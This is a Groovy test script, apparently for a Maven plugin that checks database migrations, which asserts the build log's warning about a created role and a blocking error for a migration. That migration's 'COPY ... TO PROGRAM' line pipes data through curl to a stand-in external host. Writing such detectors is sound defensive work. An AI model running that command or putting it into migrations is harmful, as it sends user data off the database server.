// default failOn=critical: running a program on the database host blocks, a role created on purpose is reported
def lines = new File(basedir, "build.log").readLines()
assert lines.contains("[WARNING] src/main/resources/db/migration/V1__reporting_role.sql:2:1: medium [role-change] creates role reporting - review who gets which rights; keep passwords out of migrations (set them from a secret store)")
assert lines.contains("[ERROR] src/main/resources/db/migration/V2__export_users.sql:1:1: critical [server-program] COPY ... TO PROGRAM 'curl -T - https://example.invalid' runs a command on the database server - never run programs from a migration; load data with COPY ... FROM STDIN or from the application")
assert lines.any { it.startsWith("[ERROR] Failed to execute goal dev.migrationsafety:migration-maven-plugin:") && it.contains("1 migration finding at or above critical; see above.") }
// both are in the report; only the program blocks
def report = new groovy.json.JsonSlurper().parse(new File(basedir, "target/migration/check.json"))
assert report.findings.collect { [it.check, it.severity, it.blocking] } == [["role-change", "medium", false], ["server-program", "critical", true]]
